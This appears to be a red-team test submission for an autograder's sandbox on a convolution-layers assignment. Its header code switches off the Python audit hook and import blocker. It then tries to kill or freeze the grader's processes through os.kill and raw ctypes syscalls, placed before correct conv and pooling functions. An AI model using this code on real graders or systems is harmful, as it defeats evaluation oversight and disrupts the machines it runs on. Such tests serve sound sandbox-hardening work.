"""Red team: kill or stop the grader (its zygote, worker, CLI) from inside the sandbox.

What it tries, at load and in every call: `os.kill`/`os.killpg` with SIGKILL,
SIGSTOP and SIGTERM on every ancestor pid and on process group 0 and -1;
after switching the Python guards off, the same through `ctypes`
(`kill`, `tgkill`, `pidfd_open`+`pidfd_send_signal`, `syscall(62, ...)`), and
`kill(-1, SIGKILL)` (everything it may signal).  The functions are correct.

Attack worked if: the `autograder grade` run dies, hangs or records an
internal error, or the victim graded after it loses points (sound grader:
signals only reach the child itself).
Targets: conv_layers.
"""
# redteam-assignment: conv_layers
# redteam-expect: points<=33; victim_ok
# redteam-setup: victim

import os
import re
import signal

import numpy as np

def _disable_python_guards():
    """Switch off the audit hook (swap its code for a no-op) and drop the import blocker."""
    import gc, sys, types
    done = []
    for obj in gc.get_objects():
        if type(obj) is types.FunctionType and obj.__closure__ and (
                obj.__name__ == "hook" or {"refuse_read_of", "refuse_write_to"} & set(obj.__code__.co_freevars)):
            names = obj.__code__.co_freevars
            source = ("def outer():\n" + "".join(f"    {name} = None\n" for name in names)
                      + "    def hook(event, args):\n        return (" + "".join(f"{name}, " for name in names)
                      + ") and None\n    return hook\n")
            namespace = {}
            exec(source, namespace)
            try:
                obj.__code__ = namespace["outer"]().__code__
                done.append("hook")
            except Exception:
                pass
    for finder in list(sys.meta_path):
        if type(finder).__name__ not in ("BuiltinImporter", "FrozenImporter", "PathFinder"):
            try:
                sys.meta_path.remove(finder)
                done.append("meta_path")
            except ValueError:
                pass
    return done


def _ancestors():
    pids, pid = [], os.getpid()
    for _ in range(10):
        try:
            pid = int(re.search(r"PPid:\s*(\d+)", open(f"/proc/{pid}/status").read()).group(1))
        except Exception:
            break
        if pid <= 1:
            break
        pids.append(pid)
    if os.getppid() not in pids and os.getppid() > 1:
        pids.insert(0, os.getppid())
    return pids


def _kill_everything():
    targets = _ancestors()
    for sig in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM):
        for pid in targets:
            for kill in (os.kill, os.killpg):
                try:
                    kill(pid, sig)
                except Exception:
                    pass
    _disable_python_guards()
    try:
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        for pid in targets:
            libc.kill(pid, 9)
            libc.syscall(62, pid, 9)
            libc.syscall(234, pid, pid, 9)  # tgkill
            pidfd = libc.syscall(434, pid, 0)  # pidfd_open
            if pidfd >= 0:
                libc.syscall(424, pidfd, 9, None, 0)
        libc.kill(0, 19)
    except Exception:
        pass


_kill_everything()


def zero_pad(x, pad):
    _kill_everything()
    return np.pad(x, ((0, 0), (0, 0), (pad, pad), (pad, pad)), mode="constant")

# --- honest implementations (copied from examples/conv_layers/correct.py) ---

def conv_output_size(in_size, filter_size, stride=1, pad=0, dilation=1):
    span = dilation * (filter_size - 1) + 1
    room = in_size - span + 2 * pad
    if room < 0 or room % stride != 0:
        raise ValueError(f"filter does not fit: ({in_size} - {span} + 2*{pad}) / {stride} + 1")
    return room // stride + 1


def conv_param_count(in_channels, num_filters, filter_size, bias=True):
    if isinstance(filter_size, tuple):
        height, width = filter_size
    else:
        height = width = filter_size
    return num_filters * (height * width * in_channels + (1 if bias else 0))


def conv_forward_naive(x, w, b, conv_param):
    stride, pad = conv_param["stride"], conv_param["pad"]
    N, C, H, W = x.shape
    F, _, HH, WW = w.shape
    H_out = 1 + (H + 2 * pad - HH) // stride
    W_out = 1 + (W + 2 * pad - WW) // stride
    x_pad = zero_pad(x, pad)
    out = np.zeros((N, F, H_out, W_out))
    for i in range(H_out):
        for j in range(W_out):
            window = x_pad[:, :, i * stride : i * stride + HH, j * stride : j * stride + WW]
            out[:, :, i, j] = np.tensordot(window, w, axes=([1, 2, 3], [1, 2, 3])) + b
    cache = (x, w, b, conv_param)
    return out, cache


def conv_backward_naive(dout, cache):
    x, w, b, conv_param = cache
    stride, pad = conv_param["stride"], conv_param["pad"]
    HH, WW = w.shape[2:]
    H_out, W_out = dout.shape[2:]
    x_pad = zero_pad(x, pad)
    dx_pad = np.zeros_like(x_pad)
    dw = np.zeros_like(w)
    db = dout.sum(axis=(0, 2, 3))
    for i in range(H_out):
        for j in range(W_out):
            rows = slice(i * stride, i * stride + HH)
            cols = slice(j * stride, j * stride + WW)
            dw += np.tensordot(dout[:, :, i, j], x_pad[:, :, rows, cols], axes=([0], [0]))
            dx_pad[:, :, rows, cols] += np.tensordot(dout[:, :, i, j], w, axes=([1], [0]))
    dx = dx_pad[:, :, pad : pad + x.shape[2], pad : pad + x.shape[3]]
    return dx, dw, db


def max_pool_forward_naive(x, pool_param):
    ph, pw, stride = pool_param["pool_height"], pool_param["pool_width"], pool_param["stride"]
    N, C, H, W = x.shape
    H_out = 1 + (H - ph) // stride
    W_out = 1 + (W - pw) // stride
    out = np.zeros((N, C, H_out, W_out))
    for i in range(H_out):
        for j in range(W_out):
            out[:, :, i, j] = x[:, :, i * stride : i * stride + ph, j * stride : j * stride + pw].max(axis=(2, 3))
    cache = (x, pool_param)
    return out, cache


def max_pool_backward_naive(dout, cache):
    x, pool_param = cache
    ph, pw, stride = pool_param["pool_height"], pool_param["pool_width"], pool_param["stride"]
    dx = np.zeros_like(x)
    for i in range(dout.shape[2]):
        for j in range(dout.shape[3]):
            window = x[:, :, i * stride : i * stride + ph, j * stride : j * stride + pw]
            mask = window == window.max(axis=(2, 3), keepdims=True)
            dx[:, :, i * stride : i * stride + ph, j * stride : j * stride + pw] += mask * dout[:, :, i, j][:, :, None, None]
    return dx

